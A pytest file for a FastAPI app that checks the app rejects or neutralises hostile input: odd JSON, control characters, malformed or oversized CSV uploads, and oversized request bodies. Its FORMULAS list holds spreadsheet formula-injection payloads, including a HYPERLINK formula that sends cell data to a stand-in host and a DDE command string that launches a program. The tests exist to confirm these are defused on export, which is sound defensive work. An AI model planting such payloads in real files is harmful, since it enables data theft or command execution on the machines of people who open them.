"""Attacks that once got a 500, a stalled worker or a formula into a spreadsheet: each is
the input of its test. On the embedded SQLite default; tests/integration repeats the ones
where Postgres behaves differently."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any, cast

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from app.main import create_app
from app.services.csvfiles import neutralise, restore
from tests.helpers import make_settings
from tests.unit.test_jobs import csv_bytes, job, titles, upload

# JSON the standard library parses but strict JSON cannot carry back in an error message.
ODD_JSON = ["NaN", "Infinity", "-Infinity", "1e999", '"\\ud800"', '"a\\udfffb"']


@pytest.mark.parametrize("value", ODD_JSON)
def test_odd_json_values_get_a_422_that_encodes(
    client: TestClient, make_user, admin_headers, value: str
) -> None:
    alice = make_user("alice")
    item = client.post("/api/v1/items", json={"title": "mine"}, headers=alice).json()
    targets = [
        ("POST", "/api/v1/items", alice, '{"title": %s}'),
        ("PATCH", f"/api/v1/items/{item['id']}", alice, '{"title": %s}'),
        ("PATCH", f"/api/v1/items/{item['id']}", alice, '{"description": %s}'),
        ("POST", "/api/v1/items/export", alice, '{"callback_url": %s}'),
        ("POST", "/api/v1/users", admin_headers,
         '{"username": "bob", "email": "b@example.com", "password": %s}'),
        ("POST", "/api/v1/users", admin_headers,
         '{"username": "bob", "email": %s, "password": "long enough"}'),
    ]  # fmt: skip
    for method, path, headers, template in targets:
        response = client.request(
            method,
            path,
            content=(template % value).encode(),
            headers={**headers, "Content-Type": "application/json"},
        )
        assert response.status_code == 422, (method, path, response.text)
        response.content.decode("utf-8")  # strict UTF-8
        assert response.json()["detail"][0]["loc"][0] == "body"


@pytest.mark.parametrize(
    "body", [b'{"title": ', b"\xff\xfe", b'{"title": "x"}garbage', b"[" * 10_000]
)
def test_unparseable_json_is_a_4xx(client: TestClient, make_user, body: bytes) -> None:
    response = client.post(
        "/api/v1/items",
        content=body,
        headers={**make_user("alice"), "Content-Type": "application/json"},
    )
    assert 400 <= response.status_code < 500, response.text
    assert response.json()["detail"]


@pytest.mark.parametrize(
    ("form", "expected"),
    [
        ({"username": "a\x00b", "password": "x"}, 401),
        ({"username": "admin", "password": "pa\x00ss"}, 401),
        ({"username": "a" * 10_000, "password": "x"}, 401),
        ({"username": "admin", "password": "x" * 10_000}, 401),
    ],
)
def test_logins_no_account_can_have_fail_like_a_wrong_password(
    client: TestClient, admin_headers, form: dict[str, str], expected: int
) -> None:
    response = client.post("/api/v1/auth/token", data=form)
    assert response.status_code == expected, response.text
    assert response.json() == {"detail": "incorrect username or password"}


@pytest.mark.parametrize(
    "email", ["a\x00b@example.com", "a@exa\x00mple.com", "a\x07@example.com", "\u0085@x.org"]
)
def test_control_characters_in_an_email_are_422(
    client: TestClient, admin_headers, email: str
) -> None:
    response = client.post(
        "/api/v1/users",
        json={"username": "bob", "email": email, "password": "long enough"},
        headers=admin_headers,
    )
    assert response.status_code == 422, response.text


# --- CSV imports ----------------------------------------------------------------------------


def test_nul_in_a_csv_header_fails_the_job_with_a_plain_message(
    client: TestClient, make_user
) -> None:
    alice = make_user("alice")
    done = job(client, alice, upload(client, alice, b"ti\x00tle,description\nx,y\n")["id"])
    assert done["state"] == "failed"
    assert done["error"] == "the CSV header contains control characters"


@pytest.mark.parametrize(
    ("content", "error"),
    [
        (b"title,title\na,b\n", "duplicate CSV columns: title"),
        (b"title,Title\na,b\n", "duplicate CSV columns: title"),
        (b"", "the file is empty: the first line must be the CSV header"),
        (
            b"title\n" + b'"' + b"x" * 30_000 + b'"\n',
            "line 2: field larger than field limit (20000)",
        ),
    ],
)
def test_malformed_files_fail_with_the_reason(
    client: TestClient, make_user, content: bytes, error: str
) -> None:
    alice = make_user("alice")
    done = job(client, alice, upload(client, alice, content)["id"])
    assert (done["state"], done["error"]) == ("failed", error)


def test_rows_with_extra_or_missing_fields_are_rejected_with_their_line(
    client: TestClient, make_user
) -> None:
    alice = make_user("alice")
    content = b"title,description\nfine,ok\ntoo,many,fields\nshort\n"
    done = job(client, alice, upload(client, alice, content)["id"])
    assert done["state"] == "failed"
    assert done["result"]["rows"] == [
        {"line": 3, "errors": ["has 3 fields, the header has 2"]},
        {"line": 4, "errors": ["has 1 fields, the header has 2"]},
    ]
    assert titles(client, alice) == []


def test_a_file_above_the_row_limit_fails_before_any_row_is_checked(
    db_path: Path, tmp_path: Path, make_user
) -> None:
    settings = make_settings(tmp_path, f"sqlite+aiosqlite:///{db_path}", import_max_rows=1000)
    with TestClient(create_app(settings)) as client:
        from tests.helpers import login

        cast(FastAPI, client.app).state  # noqa: B018 - started
        import asyncio

        from app.services.users import ensure_superuser_standalone

        asyncio.run(ensure_superuser_standalone(settings))
        admin = login(client, settings.admin_username, settings.admin_password)
        # The attack: a tiny file of a million one-letter rows (2 MB).
        content = b"title\n" + b"a\n" * 1_000_000
        done = job(client, admin, upload(client, admin, content)["id"])
    assert done["state"] == "failed"
    assert done["error"] == "the file has more than IMPORT_MAX_ROWS (1000) rows"
    assert done["progress"]["done"] == 0


# --- CSV formula injection ----------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
            "@SUM(1)", "-2+3", "'=already quoted", "''@twice"]  # fmt: skip


@pytest.mark.parametrize("text", [*FORMULAS, "plain", "it's", "'", "a=b", "\t=1+2", "\r=1"])
def test_neutralise_and_restore_are_inverse(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_an_export_neutralises_formulas_and_re_imports_to_the_same_text(
    client: TestClient, make_user
) -> None:
    alice = make_user("alice")
    rows = [[title, "\t=1+2"] for title in FORMULAS]
    assert job(client, alice, upload(client, alice, csv_bytes(rows))["id"])["state"] == "succeeded"
    stored = titles(client, alice)  # a CSV is read as neutralised: "''@twice" is "'@twice"
    assert "'@twice" in stored

    export = client.post("/api/v1/items/export", headers=alice).json()
    assert job(client, alice, export["id"])["state"] == "succeeded"
    exported = client.get(f"/api/v1/jobs/{export['id']}/download", headers=alice)
    cells = [c for row in csv.reader(io.StringIO(exported.text)) for c in row[1:3]]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK" in exported.text

    bob = make_user("bob")
    again = upload(client, bob, exported.content)
    assert job(client, bob, again["id"])["state"] == "succeeded"
    items = client.get("/api/v1/items?limit=100", headers=bob).json()["items"]
    assert sorted(i["title"] for i in items) == stored
    assert {i["description"] for i in items} == {"=1+2"}  # surrounding whitespace is trimmed


# --- request bodies are bounded before they are read ---------------------------------------


def test_a_declared_huge_body_is_413_before_it_is_sent(client: TestClient) -> None:
    # Anonymous, and the body never arrives: the answer must not wait for it.
    response = client.post(
        "/api/v1/items",
        content=b"{}",
        headers={"Content-Type": "application/json", "Content-Length": "1000000000"},
    )
    assert response.status_code == 413
    assert response.json() == {"detail": "Content Too Large"}


def test_a_streamed_body_is_cut_off_at_the_limit(client: TestClient, make_user) -> None:
    """A body without Content-Length (chunked) stops being read once it passes the limit."""
    headers = make_user("alice")
    pulled = 0
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        pulled += 1  # 100 chunks of 64 KiB: 6.4 MB if all of it were read
        return {"type": "http.request", "body": b"x" * 65536, "more_body": pulled < 100}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
        "scheme": "http", "path": "/api/v1/items", "raw_path": b"/api/v1/items",
        "query_string": b"", "root_path": "", "client": ("127.0.0.1", 1), "server": ("t", 80),
        "headers": [(b"content-type", b"application/json"),
                    (b"authorization", headers["Authorization"].encode())],
    }  # fmt: skip
    assert client.portal is not None  # inside the client's `with`
    client.portal.call(cast(Any, client.app), scope, receive, send)
    assert sent[0]["status"] == 413
    assert b"Content Too Large" in b"".join(m.get("body", b"") for m in sent[1:])
    assert pulled <= 17  # the 1 MiB limit, and not a chunk more


def test_an_upload_above_the_import_limit_is_413(db_path: Path, tmp_path: Path, make_user) -> None:
    settings = make_settings(tmp_path, f"sqlite+aiosqlite:///{db_path}", import_max_bytes=2000)
    with TestClient(create_app(settings)) as client:
        import asyncio

        from app.services.users import ensure_superuser_standalone
        from tests.helpers import login

        asyncio.run(ensure_superuser_standalone(settings))
        admin = login(client, settings.admin_username, settings.admin_password)
        for size in (2001, 500_000):  # the file alone, and past the multipart allowance
            response = client.post(
                "/api/v1/items/import",
                files={"file": ("items.csv", b"title\n" + b"a" * size, "text/csv")},
                headers=admin,
            )
            assert response.status_code == 413, response.text
            assert "detail" in response.json()
    assert not [p for p in Path(settings.uploads_dir).glob("*") if p.is_file()]
